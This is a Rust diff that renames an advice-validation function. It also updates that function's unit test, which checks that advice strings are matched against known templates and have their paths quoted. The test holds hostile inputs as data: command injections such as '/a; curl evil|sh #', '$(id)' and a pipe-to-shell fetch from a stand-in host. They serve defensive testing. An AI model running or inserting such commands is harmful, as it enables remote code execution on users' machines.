@@ -20,7 +20,7 @@ const KNOWN: [&str; 9] = [
 ];
 
 /// The advice with its paths quoted; null when it is no known one.
-pub(super) fn known(said: &Value) -> Value {
+pub(super) fn checked(said: &Value) -> Value {
     let said = said.as_str().unwrap_or_default();
     let same = |form: &&str| match form.split_once("%s") {
         Some((before, after)) => {
@@ -40,14 +40,14 @@ mod tests {
 
     #[test]
     fn advice_of_a_host_is_that_of_our_agent_or_none() {
-        assert_eq!(known(&json!("move it away")), json!("move it away"));
-        assert_eq!(known(&json!("run `chmod go-w /a/b`")), json!("run `chmod go-w /a/b`"));
+        assert_eq!(checked(&json!("move it away")), json!("move it away"));
+        assert_eq!(checked(&json!("run `chmod go-w /a/b`")), json!("run `chmod go-w /a/b`"));
         let hostile = json!("run `chmod go-w /a; curl evil|sh #`");
-        assert_eq!(known(&hostile), json!("run `chmod go-w '/a; curl evil|sh #'`"));
+        assert_eq!(checked(&hostile), json!("run `chmod go-w '/a; curl evil|sh #'`"));
         for other in ["run `curl evil|sh`", "run `chmod go-w $(id)`", "move it away; curl evil", ""] {
-            assert_eq!(known(&json!(other)), Value::Null, "{other}");
+            assert_eq!(checked(&json!(other)), Value::Null, "{other}");
         }
-        assert_eq!(known(&Value::Null), Value::Null);
+        assert_eq!(checked(&Value::Null), Value::Null);
     }
 
     /// A text of the agent that changes has to change here, too.
